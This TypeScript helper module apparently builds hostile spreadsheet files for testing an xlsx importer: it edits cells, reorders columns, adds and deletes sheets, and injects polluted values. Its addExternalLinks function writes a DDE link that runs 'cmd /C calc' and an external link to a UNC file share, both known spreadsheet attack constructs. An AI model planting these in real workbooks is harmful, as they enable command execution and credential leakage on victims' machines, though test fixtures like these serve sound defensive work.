import { strFromU8, strToU8 } from 'fflate';
import type { Parts } from './hostile-zip';

/** Editing a workbook's XML the way a hand-crafted hostile file would differ from an exported one. */

/** Text of a part; throws when the workbook has no such part. */
export function partText(parts: Parts, name: string): string {
  const bytes = parts[name];
  if (bytes === undefined) throw new Error(`no part ${name}`);
  return strFromU8(bytes);
}

/** Replaces a part's text. */
export function setPartText(parts: Parts, name: string, text: string): void {
  parts[name] = strToU8(text);
}

/** Attributes of one start tag, by name (namespace prefixes kept). */
function attributes(tag: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of tag.matchAll(/([\w:]+)="([^"]*)"/g)) out.set(m[1] ?? '', m[2] ?? '');
  return out;
}

/** The part holding a sheet, found through workbook.xml and its relationships. */
export function sheetPart(parts: Parts, sheetName: string): string {
  const workbook = partText(parts, 'xl/workbook.xml');
  const sheet = [...workbook.matchAll(/<sheet\b[^>]*>/g)]
    .map((m) => attributes(m[0]))
    .find((a) => a.get('name') === sheetName);
  const id = sheet?.get('r:id');
  const rels = partText(parts, 'xl/_rels/workbook.xml.rels');
  const rel = [...rels.matchAll(/<Relationship\b[^>]*>/g)]
    .map((m) => attributes(m[0]))
    .find((a) => a.get('Id') === id);
  const target = rel?.get('Target');
  if (target === undefined) throw new Error(`no sheet ${sheetName}`);
  return target.startsWith('/') ? target.slice(1) : `xl/${target}`;
}

/** The shared strings, in order, as plain text. */
export function sharedStrings(parts: Parts): string[] {
  const sst = partText(parts, 'xl/sharedStrings.xml');
  return [...sst.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((si) =>
    [...(si[1] ?? '').matchAll(/<t\b[^>]*>([\s\S]*?)<\/t>/g)].map((t) => unescapeXml(t[1] ?? '')).join(''),
  );
}

const CELL = /<c\b[^>]*?(?:\/>|>[\s\S]*?<\/c>)/g;

/** The XML of a cell, or undefined when the sheet has no such cell. */
export function findCell(sheetXml: string, ref: string): string | undefined {
  return [...sheetXml.matchAll(CELL)].find(
    (m) => attributes(m[0].slice(0, m[0].indexOf('>'))).get('r') === ref,
  )?.[0];
}

/** What a cell shows as text (shared, inline or plain value). */
export function cellText(parts: Parts, sheetXml: string, ref: string): string {
  const cell = findCell(sheetXml, ref);
  if (cell === undefined) return '';
  const type = attributes(cell.slice(0, cell.indexOf('>'))).get('t');
  const value = /<v>([\s\S]*?)<\/v>/.exec(cell)?.[1] ?? '';
  if (type === 's') return sharedStrings(parts)[Number(value)] ?? '';
  if (type === 'inlineStr') return unescapeXml(/<t\b[^>]*>([\s\S]*?)<\/t>/.exec(cell)?.[1] ?? '');
  return unescapeXml(value);
}

/** Column index (0-based) of a cell reference such as "AB12". */
export function columnIndex(ref: string): number {
  let index = 0;
  for (const ch of /^[A-Z]+/.exec(ref)?.[0] ?? '') index = index * 26 + (ch.charCodeAt(0) - 64);
  return index - 1;
}

/** Column letters of a 0-based index. */
export function columnLetters(index: number): string {
  let out = '';
  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26))
    out = String.fromCharCode(65 + ((n - 1) % 26)) + out;
  return out;
}

/** Puts a cell's XML in place of the old one, or into its row in column order when it was empty. */
export function setCell(sheetXml: string, ref: string, xml: string): string {
  const old = findCell(sheetXml, ref);
  if (old !== undefined) return sheetXml.replace(old, () => xml);
  const row = /\d+$/.exec(ref)?.[0] ?? '';
  const rowMatch = new RegExp(`<row\\b[^>]*\\br="${row}"[^>]*>([\\s\\S]*?)</row>`).exec(sheetXml);
  if (rowMatch === null) throw new Error(`no row ${row}`);
  const cells = [...(rowMatch[1] ?? '').matchAll(CELL)].map((m) => m[0]);
  const at = cells.findIndex((c) => columnIndex(attributes(c).get('r') ?? '') > columnIndex(ref));
  cells.splice(at < 0 ? cells.length : at, 0, xml);
  const open = rowMatch[0].slice(0, rowMatch[0].indexOf('>') + 1);
  return sheetXml.replace(rowMatch[0], () => `${open}${cells.join('')}</row>`);
}

/** An inline-string cell, as some programs write text. */
export function inlineCell(ref: string, text: string): string {
  return `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${escapeXml(text)}</t></is></c>`;
}

/** A formula cell with the value it showed when last saved. */
export function formulaCell(ref: string, formula: string, cached: string): string {
  return `<c r="${ref}" t="str"><f>${escapeXml(formula)}</f><v>${escapeXml(cached)}</v></c>`;
}

/** Row number of the cover item whose key (column C) is `key`. */
export function coverRow(parts: Parts, key: string): number {
  const cover = partText(parts, sheetPart(parts, '封面'));
  for (const m of cover.matchAll(/<c r="C(\d+)"[^>]*?>[\s\S]*?<\/c>/g)) {
    if (cellText(parts, cover, `C${m[1]}`) === key) return Number(m[1]);
  }
  throw new Error(`no cover key ${key}`);
}

/** Moves every cell of a sheet to the column `order[old]`, keeping each row's cells in column order. */
export function permuteColumns(sheetXml: string, order: readonly number[]): string {
  return sheetXml.replace(
    /(<row\b[^>]*>)([\s\S]*?)(<\/row>)/g,
    (_whole, open: string, body: string, close: string) => {
      const moved = [...body.matchAll(CELL)].map((m) => {
        const ref = attributes(m[0].slice(0, m[0].indexOf('>'))).get('r') ?? '';
        const to = order[columnIndex(ref)] ?? columnIndex(ref);
        return {
          to,
          xml: m[0].replace(/\br="[A-Z]+(\d+)"/, (_r, n: string) => `r="${columnLetters(to)}${n}"`),
        };
      });
      moved.sort((a, b) => a.to - b.to);
      return `${open}${moved.map((c) => c.xml).join('')}${close}`;
    },
  );
}

/** Escapes text for XML content and attributes. */
export function escapeXml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

function unescapeXml(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);/gi, (_m, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');
}

const RELS_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Adds sheets with the given names, each a little table, at the end of the workbook. */
export function addSheets(parts: Parts, names: readonly string[]): void {
  let workbook = partText(parts, 'xl/workbook.xml');
  let rels = partText(parts, 'xl/_rels/workbook.xml.rels');
  let types = partText(parts, '[Content_Types].xml');
  names.forEach((name, i) => {
    const part = `xl/worksheets/added${i + 1}.xml`;
    const id = `rIdAdded${i + 1}`;
    setPartText(
      parts,
      part,
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${inlineCell('A1', name)}</row><row r="2">${inlineCell('A2', name)}</row><row r="3">${inlineCell('A3', '{"polluted":true}')}</row></sheetData></worksheet>`,
    );
    workbook = workbook.replace(
      '</sheets>',
      `<sheet name="${escapeXml(name)}" sheetId="${100 + i}" r:id="${id}"/></sheets>`,
    );
    rels = rels.replace(
      '</Relationships>',
      `<Relationship Id="${id}" Type="${RELS_NS}/worksheet" Target="worksheets/added${i + 1}.xml"/></Relationships>`,
    );
    types = types.replace(
      '</Types>',
      `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    );
  });
  setPartText(parts, 'xl/workbook.xml', workbook);
  setPartText(parts, 'xl/_rels/workbook.xml.rels', rels);
  setPartText(parts, '[Content_Types].xml', types);
}

/** Deletes a sheet as a spreadsheet program does: its entry, names, relationship, content type and part. */
export function deleteSheet(parts: Parts, sheetName: string): void {
  const part = sheetPart(parts, sheetName);
  const workbook = partText(parts, 'xl/workbook.xml');
  const sheets = [...workbook.matchAll(/<sheet\b[^>]*>/g)].map((m) => m[0]);
  const index = sheets.findIndex((s) => attributes(s).get('name') === sheetName);
  const tag = sheets[index] ?? '';
  const id = attributes(tag).get('r:id');
  const withoutSheet = workbook
    .replace(tag, '')
    .replace(
      /<definedName\b[^>]*\blocalSheetId="(\d+)"[^>]*>[\s\S]*?<\/definedName>/g,
      (whole, n: string) => {
        const local = Number(n);
        if (local === index) return '';
        return local > index ? whole.replace(`localSheetId="${n}"`, `localSheetId="${local - 1}"`) : whole;
      },
    );
  setPartText(parts, 'xl/workbook.xml', withoutSheet);
  const rels = partText(parts, 'xl/_rels/workbook.xml.rels').replace(
    new RegExp(`<Relationship\\b[^>]*\\bId="${id}"[^>]*/>`),
    '',
  );
  setPartText(parts, 'xl/_rels/workbook.xml.rels', rels);
  const types = partText(parts, '[Content_Types].xml').replace(
    new RegExp(`<Override\\b[^>]*PartName="/${part}"[^>]*/>`),
    '',
  );
  setPartText(parts, '[Content_Types].xml', types);
  delete parts[part];
}

/**
 * The parts Excel writes for a formula reading another workbook (external link 1, to a file share)
 * and for a DDE link to cmd (external link 2), wired into the workbook.
 */
/** Parts of the two external links addExternalLinks writes. */
export const EXTERNAL_LINK_PARTS = [
  'xl/externalLinks/externalLink1.xml',
  'xl/externalLinks/externalLink2.xml',
] as const;

export function addExternalLinks(parts: Parts, user: string): void {
  const ns = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  setPartText(
    parts,
    EXTERNAL_LINK_PARTS[0],
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${ns}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>${escapeXml(user)}</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
  );
  setPartText(
    parts,
    'xl/externalLinks/_rels/externalLink1.xml.rels',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/externalLinkPath" Target="file:///\\\\192.0.2.1\\share\\book.xlsx" TargetMode="External"/></Relationships>`,
  );
  setPartText(
    parts,
    EXTERNAL_LINK_PARTS[1],
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
  );
  const workbook = partText(parts, 'xl/workbook.xml').replace(
    '</sheets>',
    '</sheets><externalReferences><externalReference r:id="rIdX1"/><externalReference r:id="rIdX2"/></externalReferences>',
  );
  setPartText(parts, 'xl/workbook.xml', workbook);
  const rels = partText(parts, 'xl/_rels/workbook.xml.rels').replace(
    '</Relationships>',
    `<Relationship Id="rIdX1" Type="${ns}/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdX2" Type="${ns}/externalLink" Target="externalLinks/externalLink2.xml"/></Relationships>`,
  );
  setPartText(parts, 'xl/_rels/workbook.xml.rels', rels);
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml';
  const types = partText(parts, '[Content_Types].xml').replace(
    '</Types>',
    `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${type}"/><Override PartName="/xl/externalLinks/externalLink2.xml" ContentType="${type}"/></Types>`,
  );
  setPartText(parts, '[Content_Types].xml', types);
}
